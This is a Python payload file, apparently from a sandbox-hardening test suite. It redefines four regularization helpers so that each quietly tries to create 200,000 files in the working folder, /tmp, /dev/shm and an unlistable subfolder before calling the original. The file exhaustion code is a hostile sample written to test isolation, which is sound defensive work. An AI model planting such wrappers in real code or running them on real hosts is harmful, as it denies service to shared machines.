# Payload: fill the disk and the tmpfs folders with many small files: 200,000 empty files in
# the scratch folder (l2_dense), in a folder of it that only its owner may write and nobody
# may list, mode 300 (penalty), in /tmp (l1_dense) and in /dev/shm (l1_l2_dense). A function
# whose files were all created answers like alice; one whose writes were refused raises.
# Either way no folder the worker sees may take them all: the writes are refused or the
# worker is stopped, and those four functions lose their checks. Nothing may be left on the
# host afterwards.
import os as _os

_alice = {"l2_dense": l2_dense, "l1_dense": l1_dense, "l1_l2_dense": l1_l2_dense}
_alice["penalty"] = penalty
_COUNT = 200_000


def _fill(folder, mode=0o700):
    target = _os.path.join(folder, "@@MARKER@@-files")
    made = 0
    try:
        _os.makedirs(folder, exist_ok=True)
        if not _os.path.isdir(target):
            _os.mkdir(target, mode)  # made with its mode: no chmod needed
        for number in range(_COUNT):
            name = _os.path.join(target, str(number))
            _os.close(_os.open(name, _os.O_CREAT | _os.O_WRONLY, 0o600))
            made += 1
    except OSError as exc:
        raise RuntimeError(
            f"HOSTILE-BLOCKED files in {folder} after {made}: {type(exc).__name__}"
        ) from None


def l2_dense(units, l2=0.01, activation="relu"):
    _fill(_os.getcwd())
    return _alice["l2_dense"](units, l2=l2, activation=activation)


def l1_dense(units, l1=0.005, activation="relu"):
    _fill("/tmp")
    return _alice["l1_dense"](units, l1=l1, activation=activation)


def l1_l2_dense(units, l1=0.001, l2=0.001, activation="relu"):
    _fill("/dev/shm")
    return _alice["l1_l2_dense"](units, l1=l1, l2=l2, activation=activation)


def penalty(model):
    _fill(_os.path.join(_os.getcwd(), "unlisted"), mode=0o300)
    return _alice["penalty"](model)
